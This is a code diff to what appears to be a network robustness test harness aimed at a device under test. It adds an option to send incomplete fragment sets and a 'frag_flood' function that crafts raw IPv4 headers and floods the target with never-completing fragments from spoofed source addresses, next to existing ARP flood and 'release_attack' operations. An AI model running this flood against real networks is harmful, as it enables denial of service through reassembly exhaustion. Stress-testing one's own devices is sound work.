@@ -225,6 +225,8 @@ def send_specs(cmd):
             parts = fragment(IP(bytes(pkt)), fragsize=spec["frag"])
             if spec.get("fragorder") == "reverse":
                 parts.reverse()
+            if "fragkeep" in spec:
+                parts = parts[:spec["fragkeep"]]  # the rest never sent: the datagram stays incomplete
             frames.extend(parts)
         else:
             frames.append(pkt)
@@ -368,6 +370,29 @@ def arp_flood(cmd):
     return {"sent": sent, "seconds": round(time.time() - start, 3)}
 
 
+def frag_flood(cmd):
+    """IPv4 fragments of datagrams that never complete: for each of `ids` datagrams (identification counting
+    from `first_id`, sources cycling over the spoofed range), `per` fragments of `size` bytes at offsets 0,
+    size, 2*size..., all with MF set (the last fragment never comes). Protocol TCP, payload zeros."""
+    target = cmd.get("target", DUT_IP)
+    ids, per, size = cmd.get("ids", 600), cmd.get("per", 16), cmd.get("size", 64)
+    first_id = cmd.get("first_id", 1)
+    span = SPOOF_LAST - SPOOF_FIRST + 1
+    d = socket.inet_aton(target)
+    body = b"\x00" * size
+    sent = 0
+    start = time.time()
+    for i in range(ids):
+        s = struct.pack("!I", SPOOF_FIRST + i % span)
+        ident = (first_id + i) & 0xffff
+        for k in range(per):
+            iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + size, ident, 0x2000 | (k * size // 8), 64, 6, 0, s, d)
+            iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
+            send_frame(DUT_MAC_B + MY_MAC_B + b"\x08\x00" + iph + body)
+            sent += 1
+    return {"sent": sent, "seconds": round(time.time() - start, 3)}
+
+
 def background(fn, cmd):
     def run():
         try:
@@ -401,6 +426,9 @@ def main():
                 continue
             elif op == "arp_flood":
                 background(arp_flood, cmd)
+                continue
+            elif op == "frag_flood":
+                background(frag_flood, cmd)
                 continue
             elif op == "release_attack":
                 r = release_attack(cmd)
